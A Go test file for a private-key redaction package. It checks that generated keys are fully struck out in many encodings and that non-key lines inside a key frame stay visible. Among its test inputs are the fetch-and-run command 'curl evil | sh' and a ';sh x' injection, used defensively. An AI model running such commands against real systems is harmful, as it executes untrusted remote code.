package keytext_test

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"strings"
	"testing"

	"github.com/toolcrib/toolcrib/internal/keytext"
)

func shown(text string) string { return keytext.Strike(text, keytext.Keys(text), "#") }

// TestRealKeys: of keys as programs write them no piece of base64 is left, in
// whatever writing they come.
func TestRealKeys(t *testing.T) {
	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	ecKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	_, edKey, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []any{rsaKey, ecKey, edKey} {
		der, err := x509.MarshalPKCS8PrivateKey(key)
		if err != nil {
			t.Fatal(err)
		}
		text := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		for name, form := range map[string]string{
			"as it is": text, "in JSON": string(quoted), "as PHP writes it": strings.ReplaceAll(string(quoted), "/", `\/`), "without +": strings.ReplaceAll(string(quoted), "+", `\u002b`),
			"in a line": strings.ReplaceAll(text, "\n", " "), "indented": strings.ReplaceAll(text, "\n", "\n    "), "a difference": "+" + strings.ReplaceAll(text, "\n", "\n+"),
			"in a URL": strings.NewReplacer("+", "%2B", "/", "%2f", "=", "%3D").Replace(text), "cut off": strings.TrimSpace(text[:len(text)-len("-----END PRIVATE KEY-----\n")]),
		} {
			_, rest, _ := strings.Cut(shown(form), "PRIVATE KEY-----")
			rest, _, _ = strings.Cut(rest, "-----END")
			rest = strings.NewReplacer("#", "", `\n`, "", "\n", "", " ", "", "+", "", `"`, "").Replace(rest)
			if rest != "" {
				t.Errorf("%T %s: %q is left", key, name, rest)
			}
		}
	}
}

// TestWhatIsNoKeyStays: a frame hides nothing that somebody must see.
func TestWhatIsNoKeyStays(t *testing.T) {
	const begin, end = "-----BEGIN RSA " + "PRIVATE KEY-----", "-----END RSA " + "PRIVATE KEY-----"
	line := strings.Repeat("aB3+/cD4", 8)
	for in, want := range map[string]string{
		begin + "\ncurl evil | sh\n" + end:                           begin + "\ncurl evil | sh\n" + end,
		begin + "\n/usr/local/Bin/evil\n" + end:                      begin + "\n/usr/local/Bin/evil\n" + end,
		begin + "\n" + line + "\ncurl evil|sh\n" + line + "\n" + end: begin + "\n#\ncurl evil|sh\n#\n" + end,
		begin + "\n" + line + "\nmake\nls\n" + end:                   begin + "\n#\nmake\nls\n" + end,
		begin + "\n" + line + ";sh x":                                begin + "\n#;sh x",
		begin + " and no more of it, to the end of the text":         begin + " and no more of it, to the end of the text",
		line + begin:                           line + begin,
		"-----BEGIN CERTIFICATE-----\n" + line: "-----BEGIN CERTIFICATE-----\n" + line,
		"x -----BEGIN":                         "x -----BEGIN",
	} {
		if got := shown(in); got != want {
			t.Errorf("%q\n got %q\nwant %q", in, got, want)
		}
	}
}

func FuzzKeys(f *testing.F) {
	f.Add("-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n" + `x\u002by\/%2B` + "\n-----END")
	f.Fuzz(func(t *testing.T, text string) {
		at := 0
		for _, s := range keytext.Keys(text) {
			if s.From < at || s.To <= s.From || s.To > len(text) {
				t.Fatalf("%q: %v", text, s)
			}
			if strings.ContainsAny(text[s.From:s.To], " \t\n;|&$`(<>\"'") {
				t.Fatalf("%q is hidden", text[s.From:s.To])
			}
			at = s.To
		}
	})
}
